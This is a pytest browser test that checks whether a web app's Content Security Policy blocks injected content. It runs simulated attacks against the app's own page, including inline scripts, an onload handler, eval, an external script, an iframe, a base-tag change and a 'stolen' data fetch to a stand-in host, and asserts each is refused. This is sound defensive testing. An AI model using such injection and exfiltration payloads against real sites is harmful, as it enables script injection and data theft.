"""What a page may load and run: its own scripts, and nothing that somebody put into it.

That no page of ours is hindered needs no test of its own: a violation is an error in the console,
and `visit` fails every browser test with one (shown here), in both themes and on every page.
"""

import pytest

from tools.browser import wait_until

ATTACKS = {
    "an inline script": """() => {
        const script = document.createElement('script');
        script.textContent = 'window.pwned = 1';
        document.body.append(script);
    }""",
    "a handler in markup": """() => {
        const div = document.createElement('div');
        div.innerHTML = '<img src="/favicon.png" onload="window.pwned = 1">';
        document.body.append(div);
        return div.firstChild.decode().catch(() => {});
    }""",
    # Later, since what a debugger runs itself may use eval.
    "eval": "() => { setTimeout(() => (0, eval)('window.pwned = 1'), 50) }",
    "a script from elsewhere": """() => new Promise(done => {
        const script = document.createElement('script');
        script.src = 'https://elsewhere.invalid/x.js';
        script.onerror = script.onload = done;
        document.body.append(script);
    })""",
    "a message home": "() => fetch('https://elsewhere.invalid/?stolen').catch(() => {})",
    "a frame": """() => {
        const frame = document.createElement('iframe');
        frame.src = 'https://elsewhere.invalid/';
        document.body.append(frame);
    }""",
    "another base": """() => {
        const base = document.createElement('base');
        base.href = 'https://elsewhere.invalid/';
        document.head.append(base);
    }""",
}
_LISTEN = """window.violations = [];
addEventListener('securitypolicyviolation', e => window.violations.push(e.effectiveDirective))"""


@pytest.fixture
def attacked(server, visit):
    """A page with the grid on it, which runs a script of its own from a blob."""
    visitor = visit()
    visitor.page.add_init_script(_LISTEN)
    return visitor.goto(f"{server.url}/axes")


def test_what_is_put_into_a_page_does_not_run(attacked):
    page = attacked.page
    page.wait_for_selector("[role=gridcell]")
    assert page.evaluate("window.violations") == []
    for name, attack in ATTACKS.items():
        before = page.evaluate("window.violations.length")
        page.evaluate(attack)
        wait_until(page, "before => window.violations.length > before", before)
        assert page.evaluate("window.pwned") is None, name
    # The console tells of each, which is how every other browser test would notice one of ours.
    assert sum("Content Security Policy" in error for error in attacked.errors) >= len(ATTACKS)
    attacked.errors.clear()
